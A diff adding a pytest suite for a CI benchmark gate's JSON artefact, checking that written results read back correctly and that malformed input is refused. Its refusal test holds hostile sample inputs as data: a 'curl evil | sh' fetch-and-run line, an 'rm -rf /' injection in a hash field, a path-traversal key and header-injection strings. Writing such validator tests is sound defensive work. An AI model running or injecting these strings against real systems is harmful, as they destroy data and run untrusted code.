@@ -1,0 +1,151 @@
+"""The file that leaves the job without secrets: what a gate writes is read, and nothing that it does not write."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.asv_results import AsvResults
+from tests.ci.reports.examples import FULL, QUIET
+from tests.dashboard.suite_results import Suite
+from warpwatch.ci.gate.artefact import (
+    LARGEST_FILE,
+    ArtefactError,
+    GateArtefact,
+    GateVerdict,
+    has_hidden,
+    plain,
+    read_artefact,
+)
+from warpwatch.ci.gate.artefact_writer import gate_artefact, write_artefact
+from warpwatch.ci.gate.sequence import End, Gate
+from warpwatch.dashboard.check import check
+from warpwatch.dashboard.store import Store, queries
+from warpwatch.dashboard.verdict import Verdict
+
+
+def _kernel(number: int, registers: int, architecture: str) -> dict[str, Any]:
+    return {"record": "compiled", "run": f"run-{number}-0", "benchmark": "benchmarks.compiled.Compiled",
+            "kernel": "rope_kernel", "architecture": architecture, "operator": "rope", "implementation": "warpwatch",
+            "status": "ok", "reason": None, "registers": registers, "stack_bytes": 0, "shared_bytes": 0,
+            "local_memory_instructions": 0, "code_bytes": 4096, "instructions": {"total": 300 + registers},
+            "sha256": f"{number:064x}"}  # fmt: skip
+
+
+@pytest.fixture
+def gated(tmp_path: Path) -> GateArtefact:
+    """Of a store in which head is 30 % slower than base and takes 32 registers more."""
+    suite = Suite(AsvResults(tmp_path / "results"))
+    gpu = {"gpu": {"name": "NVIDIA H200", "uuid": "GPU-aaaaaaaa-1", "compute_capability": "9.0"}}
+    for number in range(1, 9):
+        path = suite.commit(number, {"warpwatch": 1.3 if number == 8 else 1.0}, more=gpu)
+        if number >= 7:
+            registers = 128 if number == 8 else 96
+            suite.asv.context(path, *(_kernel(number, registers, each) for each in ("sm_75", "sm_90a")))
+    store = Store(f"sqlite:///{tmp_path / 'gate.db'}")
+    suite.asv.load(store)
+    base, head = queries.commits(store, "demo")[1::-1]
+    compared = check(store, "demo", base, head, threshold=0.02)
+    done = Gate(check=compared, runs=1, seconds=90.0, end=End.TOLD)
+    told = gate_artefact(store, done, machine="box", family_error=0.01)
+    store.close()
+    return told
+
+
+def test_what_a_gate_found_is_written_and_read_again(gated: GateArtefact, tmp_path: Path) -> None:
+    write_artefact(gated, tmp_path / "gate.json")
+    told = read_artefact(tmp_path / "gate.json")
+    assert told == gated
+    assert (told.verdict, told.gpu, told.machine) == (GateVerdict.REGRESSED, "NVIDIA H200", "box")
+    (row,) = told.rows
+    assert row.change is not None
+    assert 0.25 < row.change.low < row.change.value < row.change.high < 0.35
+    (code,) = told.code_of(row)  # the T4's is not what an H200 runs
+    assert (code.architecture, code.state) == ("sm_90a", "changed")
+    assert [(fact.name, fact.before, fact.after) for fact in code.facts] == [("registers", 96, 128)]
+
+
+def test_the_schema_describes_what_is_written(gated: GateArtefact) -> None:
+    schema = GateArtefact.model_json_schema()
+    for told in (gated, FULL, QUIET):
+        jsonschema.Draft202012Validator(schema).validate(json.loads(told.model_dump_json(exclude_defaults=True)))
+
+
+def _changed(change: dict[str, Any], row: dict[str, Any] | None = None) -> dict[str, Any]:
+    data = json.loads(FULL.model_dump_json())
+    data["rows"][0] |= row or {}
+    return data | change
+
+
+@pytest.mark.parametrize(
+    ("data", "said"),
+    [
+        ([], "the whole"),
+        (_changed({"run": "curl evil | sh"}), "a key that the schema does not have"),
+        (_changed({"schema_version": 2}), "schema_version"),
+        (_changed({"schema_version": "1"}), "schema_version"),
+        (_changed({"head": {"hash": "HEAD; rm -rf /"}}), "head.hash"),
+        (_changed({"head": {"hash": "b" * 40 + "\n"}}), "head.hash"),
+        (_changed({"head": {"hash": "a" * 40}}), "one commit"),
+        (_changed({"machine": "m" * 201}), "machine"),
+        (_changed({"machine": "a\u202eb"}), "signs that cannot be seen"),
+        (_changed({"gpu": "T4\r\nSet-Cookie: a"}), "signs that cannot be seen"),
+        (_changed({"gpu": "Z" + "\u0300" * 30}), "signs that cannot be seen"),
+        (_changed({"threshold": "0.02"}), "threshold"),
+        (_changed({"threshold": float("nan")}), "threshold"),
+        (_changed({}, {"base": float("inf")}), "rows.0.base"),
+        (_changed({}, {"base": 1e300}), "rows.0.base"),
+        (_changed({}, {"blocks": "no"}), "rows.0.blocks"),
+        (_changed({}, {"key": "../../etc/pwd"}), "rows.0.key"),
+        (_changed({}, {"key": f"{2:016x}"}), "two rows of one series"),
+        (_changed({"verdict": "unchanged"}), "the rows say regressed"),
+        (_changed({}, {"verdict": "unchanged"}), "the rows say inconclusive"),
+        (_changed({"rows": [{}] * 5001}), "rows"),
+        (_changed({}, {"verdict": "invalid", "accepted": {"by": "ann", "reason": "", "source": "-"}}), "not accepted"),
+    ],
+)
+def test_what_no_gate_writes_is_refused_by_name(data: Any, said: str, tmp_path: Path) -> None:
+    file = tmp_path / "gate.json"
+    file.write_text(json.dumps(data))
+    with pytest.raises(ArtefactError, match="no artefact") as refused:
+        read_artefact(file)
+    assert said in str(refused.value)
+    assert "evil" not in str(refused.value)
+
+
+@pytest.mark.parametrize("text", [b"", b"{", b"\xff\xfe", b'{"machine": "\\ud800"}', b"[" * 100_000])
+def test_what_is_not_json_is_refused(text: bytes, tmp_path: Path) -> None:
+    (tmp_path / "gate.json").write_bytes(text)
+    with pytest.raises(ArtefactError):
+        read_artefact(tmp_path / "gate.json")
+
+
+def test_a_file_that_is_too_large_is_not_read_to_its_end(tmp_path: Path) -> None:
+    with (tmp_path / "gate.json").open("wb") as file:
+        file.truncate(100 * LARGEST_FILE)  # a hole
+    with pytest.raises(ArtefactError, match="larger than 8 MiB"):
+        read_artefact(tmp_path / "gate.json")
+
+
+def test_what_is_written_is_never_too_large_to_be_read(tmp_path: Path) -> None:
+    """A row that says nothing but long words, thousands of times."""
+    quiet = QUIET.rows[0].model_copy(update={"environment": "e" * 1000, "reason": "é" * 1000})
+    rows = (FULL.rows[0], *(quiet.model_copy(update={"key": f"{n:016x}"}) for n in range(2, 5001)))
+    write_artefact(FULL.model_copy(update={"rows": rows}), tmp_path / "gate.json")
+    told = read_artefact(tmp_path / "gate.json")
+    assert told.rows[0].verdict is Verdict.REGRESSED
+    assert len(told.rows) + told.rows_left_out == 5000
+    assert told.rows_left_out > 0
+
+
+@given(st.text(max_size=300), st.integers(1, 250))
+def test_any_text_can_be_written_so_that_it_may_be_read(text: str, most: int) -> None:
+    told = plain(text, most)
+    assert len(told) <= most
+    assert not has_hidden(told)
+    if not has_hidden(text) and len(text) <= most:
+        assert told == text
